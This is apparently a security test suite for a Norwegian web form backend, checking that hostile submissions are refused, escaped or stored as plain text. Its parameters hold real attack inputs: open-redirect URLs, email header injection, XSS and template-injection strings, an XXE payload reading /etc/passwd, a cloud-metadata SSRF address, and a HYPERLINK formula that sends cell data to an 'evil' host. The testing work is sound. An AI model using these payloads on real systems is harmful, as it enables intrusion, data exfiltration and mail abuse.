"""What people and programs send who mean harm, or know no better. Never a 500, never a stack trace, nothing lost."""

import json
from html import unescape

import pytest

from tests.submissions.conftest import KARI, SITE

FORM = "application/x-www-form-urlencoded"
JSON = {"Accept": "application/json"}


@pytest.mark.parametrize(
    "wish",
    [
        "//evil.example/x",
        "https:evil.example",
        "\thttps://evil.example",
        "https://nettsted.example\\@evil.example/",
        "https://nettsted.example.evil.example/",
        "https://nettsted.example@evil.example/",
        "https://nettst\u0435d.example/",
        "https://nettsted.example:8443/",
        "http://nettsted.example/",
        "javascript:alert(1)",
        "/takk\r\nSet-Cookie: a=b",
        "\\\\evil.example",
        "",
    ],
)
def test_nobody_is_sent_to_another_site(post, kept, wish) -> None:
    answer = post({**KARI, "_next": wish})
    assert answer.status_code == 303
    assert answer.location.startswith("/f/kontakt/thanks")
    assert "Set-Cookie" not in answer.headers
    assert len(kept()) == 1


@pytest.mark.parametrize("wish", ["/takk/?a=1", f"{SITE}/takk/?a=1"])
def test_a_visitor_is_sent_back_to_the_forms_own_site(post, wish) -> None:
    assert post({**KARI, "_next": wish}).location == f"{SITE}/takk/?a=1"


@pytest.mark.parametrize("subject", ["Hei\r\nBcc: evil@example.com", "=?utf-8?q?Hei=0D=0ABcc:_evil@example.com?="])
def test_a_letter_to_staff_has_our_subject_and_our_recipients(post, worker, mailbox, subject) -> None:
    wishes = {"_subject": subject, "_cc": "evil@example.com", "_from": "x", "_replyto": "evil@example.com"}
    post({**KARI, "name": subject, **wishes})
    worker()
    [letter] = mailbox.to("post@nettsted.example")
    assert (letter["To"], letter["Reply-To"]) == ("post@nettsted.example", "kari@example.no")
    assert letter["Bcc"] is letter["Cc"] is None
    assert "Kontakt" in letter["Subject"]
    assert "Hei" not in letter["Subject"]
    assert len(mailbox) == 1


def test_a_confirmation_letter_carries_no_word_of_the_visitors(post, worker, mailbox, kari) -> None:
    post({**KARI, "name": "Kjøp nå https://spam.example", "nyhetsbrev": "1"})
    worker()
    [letter] = mailbox.to(kari)
    assert "spam.example" not in letter.as_string()
    assert "Kjøp" not in unescape(letter.get_body(("plain",)).get_content())


@pytest.mark.parametrize(
    "data",
    [
        {"<svg onload=alert(1)>": "x"},
        {"name": "{{94717*70139}}"},
        {"message": "<script>alert(1)</script>"},
        {"nettside": "javascript:alert(1)"},
    ],
)
def test_code_is_kept_and_shown_as_the_text_it_is(post, kept, worker, mailbox, data) -> None:
    post({**KARI, **data})
    assert dict(kept()[0].answers) == {**KARI, **data}
    worker()
    html = mailbox.to("post@nettsted.example")[0].get_body(("html",)).get_content()
    assert "<svg onload" not in html
    assert "<script>alert" not in html
    assert 'href="javascript:' not in html
    assert str(94717 * 70139) not in html


def test_typed_code_comes_back_escaped(post) -> None:
    page = post({**KARI, "name": '"><script>alert(1)</script>', "email": "x"}).text
    assert "<script" not in page


@pytest.mark.parametrize(
    "body",
    [
        b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
        b'{"x":NaN}',
        b'{"email":"kari@example.no","nyhetsbrev":"0","nyhetsbrev":"1"}',
        b'{"email": "kari@example.no",',
        b"[1, 2, 3]",
        b'"kari@example.no"',
        b"\xff\xfe\x00\x81",
    ],
)
def test_json_that_cannot_be_understood_is_refused_kindly_and_kept(post, kept, unread, body) -> None:
    answer = post(body, content_type="application/json", headers=JSON)
    assert answer.status_code == 400
    assert answer.get_json()["error"]
    assert kept() == []
    assert len(unread()) == 1


@pytest.mark.parametrize("name", ["\ud800", "Kari\x00Nordmann", "Kari\u202eNordmann"])
def test_what_is_no_character_does_no_harm(post, kept, name) -> None:
    body = json.dumps({**KARI, "name": name}).encode()
    assert post(body, content_type="application/json", headers=JSON).status_code == 200
    assert "\x00" not in kept()[0].answers["name"]
    assert "\u202e" not in kept()[0].answers["name"]


def test_raw_latin_1_is_never_an_empty_success(post, kept) -> None:
    assert post(b"\xe6\xf8\xe5", content_type=FORM).status_code in (400, 422)
    assert kept() == []


@pytest.mark.parametrize(
    "body", ["&".join(f"f{n}=x" for n in range(5000)), "message=" + "x" * 900_000, "x" * 2_000_000]
)
def test_too_much_is_413(post, kept, unread, body) -> None:
    assert post(body, content_type=FORM, headers=JSON).status_code == 413
    assert kept() == []
    assert unread() == []


@pytest.mark.parametrize("name", ["a" + "[b]" * 60, "a[999999999]"])
def test_deep_and_numbered_names_cost_nothing(post, kept, name) -> None:
    answer = post({**KARI, name: "1"}, headers=JSON)
    assert answer.status_code in (200, 400, 413)


def test_xml_and_compressed_bodies_are_415(post, kept) -> None:
    entity = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    assert post(entity, content_type="text/xml").status_code == 415
    assert post(b"\x1f\x8b", content_type=FORM, headers={"Content-Encoding": "gzip"}).status_code == 415
    assert kept() == []


@pytest.mark.parametrize(
    "origin",
    [
        "null",
        "https://nettsted.example.evil.example",
        "http://nettsted.example",
        "https://nettsted.example:8443",
        "https://NETTSTED.example.",
        "https://evil.example",
    ],
)
def test_another_page_may_not_send_our_form(post, kept, origin) -> None:
    answer = post(headers={"Origin": origin, **JSON})
    assert answer.status_code == 403
    assert "Access-Control-Allow-Origin" not in answer.headers
    assert kept() == []


def test_a_browser_that_hides_its_page_may_not_send_our_form(post, kept) -> None:
    for where in ("cross-site", "same-site"):
        assert post(headers={"Origin": "", "Sec-Fetch-Site": where}).status_code == 403
    body = json.dumps(KARI)
    assert (
        post(body, content_type="text/plain", headers={"Origin": "", "Sec-Fetch-Site": "cross-site"}).status_code == 403
    )
    assert kept() == []


def test_a_listed_page_gets_exactly_its_own_origin_back(site, client) -> None:
    asked = {
        "Origin": SITE,
        "Access-Control-Request-Method": "POST",
        "Access-Control-Request-Headers": "idempotency-key",
    }
    answer = client.options("/f/kontakt", headers=asked)
    assert answer.status_code == 204
    assert answer.headers["Access-Control-Allow-Origin"] == SITE
    assert "idempotency-key" in answer.headers["Access-Control-Allow-Headers"]
    assert "Origin" in answer.headers["Vary"]
    assert "Access-Control-Allow-Credentials" not in answer.headers


def test_a_preflight_from_elsewhere_gets_nothing(site, client) -> None:
    answer = client.options("/f/kontakt", headers={"Origin": "https://evil.example"})
    assert not [name for name, _ in answer.headers if name.startswith("Access-Control")]
    assert "Origin" in answer.headers["Vary"]


def test_a_script_on_the_site_can_read_refusals_as_well(post) -> None:
    for answer in (post({**KARI, "email": "x"}, headers=JSON), post(b"{", content_type="application/json")):
        assert answer.headers["Access-Control-Allow-Origin"] == SITE


@pytest.mark.parametrize("file", [("../../søknad.html", "text/html"), ("a.pdf.exe", "application/octet-stream")])
def test_files_are_refused_by_name(post, kept, file) -> None:
    import io

    answer = post({**KARI, "vedlegg": (io.BytesIO(b"MZ"), *file)}, content_type="multipart/form-data", headers=JSON)
    assert [(error["field"], error["code"]) for error in answer.get_json()["errors"]] == [
        ("vedlegg", "NO_FILE_UPLOADS")
    ]
    assert kept() == []


def test_an_address_of_a_file_is_text_and_is_never_fetched(post, kept, worker) -> None:
    post({**KARI, "vedlegg": "http://169.254.169.254/latest"})
    assert kept()[0].answers["vedlegg"] == "http://169.254.169.254/latest"
    assert worker() > 0


def test_a_formula_is_kept_as_it_was_typed(post, kept) -> None:
    typed = '=HYPERLINK("https://evil?x="&A1,"Klikk")'
    post({**KARI, "message": typed})
    assert kept()[0].answers["message"] == typed


def test_a_browser_in_disguise_is_only_text(post, kept) -> None:
    post(headers={"User-Agent": "<script>alert(1)</script>"})
    assert kept()[0].user_agent == "<script>alert(1)</script>"


def test_one_subscriber_has_one_address_however_its_domain_is_written(app, post, worker) -> None:
    from sqlalchemy import select

    from app.contacts.models import Contact
    from app.extensions import db

    post({**KARI, "email": "ola@blåbærsyltetøy.no"})
    post({**KARI, "email": "Ola@xn--blbrsyltety-y8ao3x.no", "message": "Noe annet"})
    worker()
    with app.app_context():
        assert len(db.session.scalars(select(Contact)).all()) == 1
